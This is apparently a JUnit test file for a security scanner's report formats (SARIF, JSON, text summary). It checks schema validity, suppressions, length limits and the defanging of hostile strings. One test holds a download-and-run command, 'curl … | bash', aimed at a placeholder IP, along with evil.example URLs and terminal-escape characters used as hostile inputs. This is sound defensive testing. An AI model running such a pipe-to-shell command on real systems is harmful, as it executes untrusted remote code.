package org.ephemera.report;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.ephemera.analyze.Analysis;
import org.ephemera.analyze.command.CorroboratedFindings;
import org.ephemera.analyze.model.Finding;
import org.ephemera.format.Json;
import org.ephemera.testing.ShellCommand;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ReportFormatsTest {
    /** Schema without format assertions, because a path may contain a colon. */
    private static final String VALIDATE = """
            import json, sys, jsonschema
            schema = json.load(open(sys.argv[1]))
            jsonschema.validators.validator_for(schema)(schema).validate(json.load(open(sys.argv[2])))
            """;

    @TempDir
    private Path folder;

    @Test
    void writesSarifAccordingToItsSchema() throws Exception {
        Path schema = folder.resolve("schema.json");
        try (InputStream in = getClass().getClassLoader().getResourceAsStream("schema/sarif-schema-2.1.0.json")) {
            assertThat(in).isNotNull();
            Files.copy(in, schema);
        }
        Path script = Files.writeString(folder.resolve("validate.py"), VALIDATE);
        for (Analysis analysis : java.util.List.of(SampleAnalysis.plain(), SampleAnalysis.saying(HostileTexts.WORDS))) {
            Path sarif = Files.write(folder.resolve("findings.sarif"), Json.pretty(SarifReport.of(analysis)));
            assertThat(validated(script, schema, sarif)).isEqualTo(new ShellCommand.Result(0, ""));
        }
        Path wrong = Files.writeString(folder.resolve("wrong.sarif"), "{\"version\": \"2.1.0\", \"runs\": [{}]}");
        assertThat(validated(script, schema, wrong).exit())
                .as("the schema is looked at")
                .isEqualTo(1);
    }

    @Test
    void writesCompleteJsonForPrograms() {
        Analysis analysis = SampleAnalysis.plain();
        JsonNode json = FindingsJson.of(analysis);
        assertThat(json.path("findings")).hasSize(analysis.findings().size());
        assertThat(json.path("coverage")).hasSize(analysis.coverage().size());
        assertThat(json.path("miner")).hasSize(analysis.miners().size());
        assertThat(json.path("gaps")).hasSize(analysis.gaps().size());
        assertThat(json.at("/escape/verdict").asText())
                .isEqualTo(analysis.verdict().answer().name());
        for (int n = 0; n < analysis.findings().size(); n++) {
            Finding finding = analysis.findings().get(n);
            JsonNode said = json.path("findings").path(n);
            assertThat(said.path("rule").asText()).isEqualTo(finding.rule().id());
            assertThat(said.path("evidence")).hasSameSizeAs(finding.evidence());
            assertThat(said.path("suppressedBy").asText(""))
                    .isEqualTo(finding.suppressedBy().orElse(""));
        }
        JsonNode results = SarifReport.of(analysis).at("/runs/0/results");
        assertThat(results).hasSize(analysis.findings().size());
    }

    /** Covers rules of SARIF that its schema does not express: 3.11.6, 3.27.22 and 3.27.23. */
    @Test
    void breaksLinksAndWritesSuppressionsInSarif() {
        Analysis sample = SampleAnalysis.plain();
        Finding one = sample.findings().getFirst();
        Finding twice =
                one.withEvidence(one.evidence().getFirst(), one.evidence().getFirst());
        List<Finding> findings = new ArrayList<>(List.of(
                twice,
                Finding.of(
                        one.rule(),
                        "\\[app\\](https://evil.example/)",
                        "argv[0] is sh",
                        one.evidence().getFirst()),
                one.suppressedAs("node-exporter")));
        JsonNode results =
                SarifReport.of(ModifiedAnalysis.findings(sample, findings)).at("/runs/0/results");
        assertThat(results).hasSize(3);
        assertThat(results)
                .extracting(result -> result.at("/message/text").asText())
                .contains("\\[app\\] (https://evil.example/): argv[0] is sh");
        assertThat(results)
                .extracting(result -> result.path("relatedLocations").size())
                .contains(new java.util.HashSet<>(one.evidence()).size() - 1)
                .doesNotContain(twice.evidence().size() - 1);
        assertThat(results)
                .allMatch(result -> result.path("suppressions").isArray())
                .extracting(result -> result.path("suppressions").size())
                .containsExactlyInAnyOrder(0, 0, 1);
        findings.removeLast();
        assertThat(SarifReport.of(ModifiedAnalysis.findings(sample, findings)).at("/runs/0/results"))
                .noneSatisfy(result -> assertThat(result.has("suppressions")).isTrue());
    }

    @Test
    void writesNoRegionForLineInsideDocument() {
        Analysis analysis = SampleAnalysis.plain();
        JsonNode evidence = with(SampleAnalysis.LOG_IN_JSON, "path", FindingsJson.of(analysis));
        assertThat(evidence.path("pointer").asText()).isEqualTo("/content");
        assertThat(evidence.path("line").asInt()).isEqualTo(3);
        JsonNode results = SarifReport.of(analysis).at("/runs/0/results");
        JsonNode location = results.findParents("physicalLocation").stream()
                .filter(one -> one.at("/physicalLocation/artifactLocation/uri")
                        .asText()
                        .equals(SampleAnalysis.LOG_IN_JSON))
                .findFirst()
                .orElseThrow();
        assertThat(location.at("/logicalLocations/0/fullyQualifiedName").asText())
                .isEqualTo("/content line 3");
        assertThat(location.at("/physicalLocation/region").isMissingNode()).isTrue();
    }

    private static JsonNode with(String value, String field, JsonNode json) {
        return json.findParents(field).stream()
                .filter(one -> one.path(field).asText().equals(value))
                .findFirst()
                .orElseThrow();
    }

    @Test
    void limitsLengthOfSummary() {
        assertThat(TextSummary.of(SampleAnalysis.plain()).lines())
                .hasSizeLessThanOrEqualTo(40)
                .anySatisfy(line -> assertThat(line).startsWith("Host "))
                .anySatisfy(line -> assertThat(line).startsWith("Not seen "));
        assertThat(TextSummary.of(SampleAnalysis.saying(HostileTexts.WORDS)).lines())
                .hasSizeLessThanOrEqualTo(40)
                .allSatisfy(
                        line -> assertThat(line).hasSizeLessThan(1000).doesNotContain("\u001b", "\u202e", "\u0000"));
    }

    @Test
    void countsEqualLinesInSummary() {
        Analysis sample = SampleAnalysis.plain();
        Finding twice = CorroboratedFindings.of(sample.findings()).getFirst();
        List<Finding> findings = new ArrayList<>(sample.findings());
        findings.add(findings.indexOf(twice), twice);

        assertThat(TextSummary.of(ModifiedAnalysis.findings(sample, findings)).lines())
                .filteredOn(line -> line.contains(twice.rule().id()) && line.endsWith(" (2 times)"))
                .hasSize(1);
    }

    @Test
    void defangsAndEscapesTextInSummary() {
        assertThat(TextSummary.of(SampleAnalysis.plain()))
                .doesNotContain("http://", "198.51.100.7/x.sh")
                .contains("curl -fsSL hxxp[://]198[.]51[.]100[.]7/x[.]sh | bash");
        assertThat(TextSummary.of(SampleAnalysis.saying(java.util.List.of("a\u202eb\u001b[2J https://evil.example/x"))))
                .contains("a\\u202eb\\u001b[2J hxxps[://]evil[.]example/x")
                .doesNotContain("evil.example");
    }

    private ShellCommand.Result validated(Path script, Path schema, Path sarif) throws Exception {
        return ShellCommand.run(
                folder, Map.of(), "python3", "-W", "ignore", script.toString(), schema.toString(), sarif.toString());
    }
}
